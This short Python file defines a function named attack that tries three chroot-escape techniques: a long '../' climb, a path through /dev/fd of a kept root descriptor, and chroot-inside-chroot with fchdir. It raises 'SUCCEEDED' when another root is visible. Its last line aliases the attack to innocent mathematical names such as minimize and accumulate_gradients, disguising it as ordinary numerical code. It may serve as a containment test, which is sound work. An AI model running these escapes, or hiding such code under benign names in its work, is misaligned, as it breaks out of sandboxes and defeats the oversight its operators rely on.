"""Leave the root by `..`, by an open descriptor, and by chroot inside chroot."""

import os


def attack(*args, **kwargs):
    inside = set(os.listdir("/"))
    kept = os.open("/", os.O_RDONLY)
    tries = [
        lambda: os.listdir("/" + "../" * 50),
        lambda: os.listdir(f"/dev/fd/{kept}/../.."),
        lambda: (os.mkdir("jail"), os.chroot("jail"), os.fchdir(kept), os.chroot("../" * 20), os.listdir("/"))[-1],
    ]
    for escape in tries:
        try:
            if set(escape()) - inside:
                raise RuntimeError("SUCCEEDED: another root")
        except OSError:
            pass
    return sorted(inside)


derivative_at = accumulate_gradients = halving_chain = minimize = attack
